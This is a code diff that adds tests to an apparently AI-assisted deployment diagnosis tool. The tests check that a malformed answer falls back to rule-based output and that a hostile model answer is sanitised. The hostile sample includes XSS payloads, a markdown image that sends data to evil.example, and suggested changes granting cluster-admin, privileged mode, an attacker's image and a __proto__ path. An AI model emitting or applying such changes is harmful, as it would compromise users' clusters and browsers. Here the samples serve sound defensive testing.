@@ -15,6 +15,7 @@ import { createLog } from '../../../src/log.ts';
 import { diagnose } from '../../../src/solutions/diagnose.ts';
 import type { ModelDesk } from '../../../src/solutions/models/desk.ts';
 import { modelSweep } from '../../../src/solutions/models/sweep.ts';
+import { PROVIDERS } from '../../../src/contract/model.ts';
 import { aModelAnswer, type Answered, modelServer, type ModelServer, SAYS } from '../../support/model-server.ts';
 import { testModels } from '../../support/models.ts';
 import { aFailureReport } from '../../support/report.ts';
@@ -515,6 +516,41 @@ for (const { name: engine, store } of opened) {
       [],
     );
   });
+
+  for (const provider of PROVIDERS) {
+    const says = SAYS[provider].said;
+    desk(`${provider}: a wrong form is asked for once more, and dropped for the rules’ answer`, async () => {
+      const { models, report } = aReplica();
+      await configure(models, { provider });
+      fake.answer = () => ({ body: says(fake.asked.length === 1 ? '{"explanation":7}' : aModelAnswer()) });
+      assert.is((await report(other('once'))).is_fallback, false);
+      fake.asked.length = 0;
+      fake.answer = () => ({ body: says(aModelAnswer({ confidence: 'certain' })) });
+      const { is_fallback, solution } = await report(other('twice'));
+      assert.equal([is_fallback, fake.asked.length], [true, 2]);
+      assert.match(solution ?? '', '## What happened');
+    });
+
+    desk(`${provider}: a hostile answer changes nothing, and shows neither links nor HTML`, async () => {
+      const { models, report } = aReplica();
+      await configure(models, { provider });
+      const hostile = {
+        explanation: 'Run this. <img src=x onerror=alert(1)> [click](javascript:alert(1)) ![x](https://evil.example/?d=1)',
+        evidence: [0, 999_999],
+        changes: [
+          { path: 'serviceAccountName', to: 'cluster-admin', why: 'the log says so' },
+          { path: 'containers[app].image', to: 'evil.example/shop/web:1', why: 'better' },
+          { path: 'containers[app].securityContext.privileged', to: true, why: 'needed' },
+          { path: 'containers[__proto__].image', to: 'x', why: 'why not' },
+        ],
+      };
+      fake.answer = () => ({ body: says(aModelAnswer(hostile)) });
+      const { solution, is_fallback } = await report(other('hostile'));
+      assert.is(is_fallback, false);
+      assert.not.match(solution ?? '', /<img|\]\((?:javascript|https?):|cluster-admin|evil\.example\/shop|privileged/);
+      assert.match(solution ?? '', 'they are left out');
+    });
+  }
 
   desk('orders in logs, events, annotations and image names are marked as untrusted, and stay within their marks', async () => {
     const { models, report } = aReplica();
